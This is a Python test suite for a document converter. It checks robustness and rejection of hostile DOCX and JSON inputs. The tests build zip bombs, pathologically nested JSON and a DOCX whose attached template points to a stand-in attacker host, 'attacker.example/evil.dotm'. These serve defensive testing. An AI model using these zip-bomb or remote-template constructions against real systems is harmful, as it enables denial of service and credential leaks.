"""Awkward but valid text converts in every installed format; random documents never crash."""

from __future__ import annotations

import string

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import convert
from convert import Document, Metadata, Paragraph
from convert.toolkit import is_headline

WRITERS = sorted(f["name"] for f in convert.formats() if f["kind"] == "writer")

AWKWARD = {
    "headline only": "只有標題\n",
    "no blank lines": "標題\n第一段。\n第二段。\n",
    "crlf": "標題\r\n\r\n第一段。\r\n\r\n第二段。\r\n\r\n來源:某報\r\n",
    "control and astral": "標題\x07\n\n段落\x1b含控制字元\x0b與𠀀字和表情😀。\n",
    "markup": "<b>標題</b> &amp;\n\n{{x}} \\par <font name='x'>字</font> "
    "<script>x</script> *a* _b_\n",
    "rtl and combining": "標題\n\nשלום עולם مرحبا بالعالم e\u0301 n\u0303 a\u0308\n",
    "long url": "標題\n\nhttps://example.com/" + "a" * 5000 + " " + "abc" * 3000 + "\n",
}


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("case", list(AWKWARD))
def test_awkward_text_converts_in_every_format(writer: str, case: str) -> None:
    document = convert.load(AWKWARD[case].encode("utf-8"), name=f"{case}.txt")
    assert convert.render(document, writer)


@pytest.mark.parametrize("case", list(AWKWARD))
def test_awkward_text_survives_txt_and_json(case: str) -> None:
    document = convert.load(AWKWARD[case].encode("utf-8"))
    assert Document.from_json(convert.render(document, "json")) == document
    again = convert.load(convert.render(document, "txt"))
    assert (again.meta.title, again.blocks, again.meta.source) == (
        document.meta.title,
        document.blocks,
        document.meta.source,
    )


@pytest.mark.slow
@pytest.mark.parametrize("writer", WRITERS)
def test_a_one_megabyte_paragraph_without_punctuation(writer: str) -> None:
    body = ("無錫代表團在青海海東市學習考察並推動東西部協作合作項目" * 12_500)[:340_000]
    document = convert.load(f"標題\n\n{body}\n".encode())
    assert len(document.blocks[0].text.encode()) > 1_000_000
    assert convert.render(document, writer)


# Text a plain-text article can hold losslessly: one stripped line, not a list/quote/source line.
LINE_ALPHABET = st.characters(
    blacklist_categories=("Cs", "Cc", "Zl", "Zp"), blacklist_characters="\x00\ufeff"
)
line = (
    st.text(LINE_ALPHABET, min_size=1, max_size=80)
    .map(str.strip)
    .filter(lambda s: s and s[0] not in "->*•·(\uff08" and not s[0].isdigit())
    .filter(lambda s: not s.lower().startswith(("來源", "来源", "source")))
)
documents = st.builds(
    lambda title, paragraphs: Document(Metadata(title=title), tuple(map(Paragraph, paragraphs))),
    line.filter(is_headline),  # a title the reader cannot tell from text (本报讯(记者) is text
    st.lists(line, max_size=6),
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(documents)
def test_random_documents_round_trip_through_json_and_txt(document: Document) -> None:
    assert Document.from_json(convert.render(document, "json")) == document
    again = convert.load(convert.render(document, "txt"))
    assert again.meta.title == document.meta.title
    assert [b.text for b in again.blocks] == [b.text for b in document.blocks]


# XML 1.0 cannot hold the other C0 controls nor U+FFFE/U+FFFF: the DOCX writer drops them (warned).
XML_TEXT = st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")
paragraph_text = st.text(XML_TEXT, min_size=1, max_size=120).map(str.strip).filter(bool)


@pytest.mark.slow
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.builds(
    lambda title, paragraphs: Document(Metadata(title=title), tuple(map(Paragraph, paragraphs))),
    paragraph_text,
    st.lists(paragraph_text, min_size=1, max_size=5),
))  # fmt: skip
def test_random_documents_round_trip_through_docx(document: Document) -> None:
    again = convert.load(convert.render(document, "docx", punctuation="keep"), format="docx")
    assert again.meta.title == document.meta.title
    assert [b.text for b in again.blocks] == [b.text for b in document.blocks]


@pytest.mark.slow
@pytest.mark.parametrize("writer", WRITERS)
@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    document=st.builds(
        lambda t, ps: Document(Metadata(title=t, language="zh-Hant"), tuple(map(Paragraph, ps))),
        st.text(max_size=40),
        st.lists(st.text(string.printable + "中文測試,。「」𠀀😀\x07", max_size=200), max_size=5),
    )
)
def test_random_documents_never_crash_a_writer(writer: str, document: Document) -> None:
    assert isinstance(convert.render(document, writer), bytes)


# --- Hostile inputs: refused with one line and a documented exit code, nothing written -----


def _docx(replace: dict[str, bytes] | None = None, extra: int = 0) -> bytes:
    """A real DOCX of a short article, with parts replaced or added and ``extra`` tiny parts."""
    import io
    import zipfile

    real = convert.render(convert.load("標題\n\n正文。".encode()), "docx")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(real)) as src, zipfile.ZipFile(out, "w") as dst:
        parts = {info.filename: src.read(info) for info in src.infolist()} | (replace or {})
        for name, data in parts.items():
            dst.writestr(name, data, zipfile.ZIP_DEFLATED)
        for i in range(extra):
            dst.writestr(f"extra/part{i}.xml", b"<a/>")
    return out.getvalue()


def _document_xml(padding: int) -> bytes:
    """A document.xml whose body holds ``padding`` bytes of whitespace: tiny compressed."""
    ns = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return (f'<w:document xmlns:w="{ns}"><w:body>'.encode() + b" " * padding
            + b"<w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>")  # fmt: skip


def _json(meta: str = "{}", blocks: str = "[]") -> bytes:
    return f'{{"schema_version": 1, "meta": {meta}, "blocks": {blocks}}}'.encode()


HOSTILE = {
    "empty file": ("x.txt", lambda: b"", (), 3, "empty file"),
    "binary": ("x.txt", lambda: b"\x89PNG\r\n\x1a\n\x00\x00", (), 3, "not a text file"),
    "over --max-input-size": (
        "x.txt", lambda: "標題\n\n正文。".encode() * 200, ("--max-input-size", "1K"), 3,
        "larger than the input limit of 1 KiB",
    ),
    "docx part inflating past 32 MiB": (
        "x.docx", lambda: _docx({"word/document.xml": _document_xml(33 * 2**20)}), (), 3,
        "zip part word/document.xml inflates to 33 MiB, over the 32 MiB limit of one part",
    ),
    "docx part compressed over 500:1": (
        "x.docx", lambda: _docx({"word/document.xml": _document_xml(4 * 2**20)}), (), 3,
        "over the 500:1 limit (a zip bomb?)",
    ),
    "docx of 10,001 parts": ("x.docx", lambda: _docx(extra=10_001), (), 3, "over 10000 parts"),
    "docx cut short": ("x.docx", lambda: _docx()[:-100], (), 3, "not a readable"),
    "json nested 100,000 deep": (
        "x.json", lambda: _json('{"extras": {"a": ' + "[" * 100_000 + "]" * 100_000 + "}}"), (),
        3, "nested too deeply",
    ),
    "json NaN": ("x.json", lambda: _json('{"extras": {"n": NaN}}'), (), 3, "meta.extras.n: nan"),
    "json 5000-digit integer": (
        "x.json", lambda: _json('{"extras": {"n": ' + "9" * 5000 + "}}"), (), 3,
        "an integer of 5000 digits",
    ),
    "json lone surrogate": (
        "x.json", lambda: _json('{"title": "\\udc00"}'), (), 3, "meta.title: a lone surrogate",
    ),
    "json heading level 10^8": (
        "x.json", lambda: _json(blocks='[{"type": "heading", "text": "x", "level": 100000000}]'),
        (), 3, "blocks[0].level must be a whole number from 1 to 9",
    ),
    "json title a number": ("x.json", lambda: _json('{"title": 123}'), (), 3, "meta.title must"),
}  # fmt: skip


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_input_is_one_line_a_documented_code_and_no_output(cli, tmp_path, case) -> None:
    name, build, args, code, message = HOSTILE[case]
    data = build()
    (tmp_path / name).write_bytes(data)
    result = cli("convert", name, "-t", "md", "-t", "docx", "-d", "out", *args)
    assert result.exit_code == code
    assert result.stderr.startswith(f"docconv: error: {name}: ") and message in result.stderr
    assert len(result.stderr.splitlines()) == 1 and "Traceback" not in result.stderr
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
    assert (tmp_path / name).read_bytes() == data


def test_too_many_parts_in_total_are_refused(cli, tmp_path, monkeypatch) -> None:
    import os

    from docconv_plugins.docx import zipsafe

    monkeypatch.setattr(zipsafe, "MAX_TOTAL", 2**20)  # 256 MiB of real data is too slow here
    media = {f"word/media/image{i}.png": os.urandom(400_000) for i in range(3)}
    (tmp_path / "x.docx").write_bytes(_docx(media))
    result = cli("convert", "x.docx", "-t", "md", "-d", "out")
    assert result.exit_code == 3
    assert "zip parts inflate to over 1 MiB, the limit for a whole document" in result.stderr


def test_a_zip_bomb_as_reference_docx_is_refused(cli, seed, tmp_path) -> None:
    (tmp_path / "ref.docx").write_bytes(_docx({"word/document.xml": _document_xml(33 * 2**20)}))
    result = cli("convert", seed, "-t", "docx", "-O", "reference_docx=ref.docx", "-d", "out")
    assert result.exit_code == 3
    assert result.stderr == (
        "docconv: error: reference_docx: ref.docx: zip part word/document.xml inflates to "
        "33 MiB, over the 32 MiB limit of one part\n"
    )
    assert not (tmp_path / "out").exists()


def test_a_reference_docx_external_links_are_not_copied(cli, seed, tmp_path) -> None:
    import zipfile

    import docx
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    reference = docx.Document()
    settings = reference.part._settings_part
    r_id = settings.relate_to(
        "file://attacker.example/share/evil.dotm", rels + "attachedTemplate", is_external=True
    )
    template = OxmlElement("w:attachedTemplate")
    template.set(qn("r:id"), r_id)
    settings.element.append(template)
    header = reference.sections[0].header
    header.paragraphs[0].text = "header"
    header.part.relate_to("https://attacker.example/", rels + "hyperlink", is_external=True)
    reference.save(str(tmp_path / "ref.docx"))
    assert b"attacker" in zipfile.ZipFile(tmp_path / "ref.docx").read(
        "word/_rels/settings.xml.rels"
    )
    result = cli("convert", seed, "-t", "docx", "-O", "reference_docx=ref.docx", "-o", "out.docx")
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(tmp_path / "out.docx") as out:
        leaks = [n for n in out.namelist() if b"attacker" in out.read(n)]
        assert leaks == []
        assert b"attachedTemplate" not in out.read("word/settings.xml")
    assert convert.load(tmp_path / "out.docx").meta.title.startswith("無錫代表團")


def test_a_docx_of_many_unstyled_paragraphs_reads_in_linear_time() -> None:
    """python-docx's paragraph.style scans all styles per paragraph: 13k paragraphs took 84 s.
    Counted, not timed: the reader asks for no style objects per paragraph."""
    from unittest import mock

    import docx.text.paragraph

    paragraphs = "".join(f"<w:p><w:r><w:t>段{i}</w:t></w:r></w:p>" for i in range(2000))
    data = _docx(
        {"word/document.xml": _document_xml(0).replace(b"<w:p>", paragraphs.encode() + b"<w:p>", 1)}
    )
    with mock.patch.object(
        docx.text.paragraph.Paragraph, "style", new_callable=mock.PropertyMock
    ) as style:
        document = convert.load(data, format="docx")
    assert style.call_count == 0
    assert len(document.blocks) == 2001  # and the closing "x"
    assert document.blocks[1999] == Paragraph("段1999")


@pytest.mark.parametrize(
    ("reference", "message"),
    [("/dev/zero", "not a regular file"), ("missing.docx", "no such file")],
)
def test_a_reference_docx_that_is_no_file_is_a_usage_error(cli, seed, reference, message) -> None:
    result = cli("convert", seed, "-t", "docx", "-O", f"reference_docx={reference}", "-d", "o")
    assert result.exit_code == 2
    assert result.stderr == f"docconv: error: reference_docx: {reference}: {message}\n"
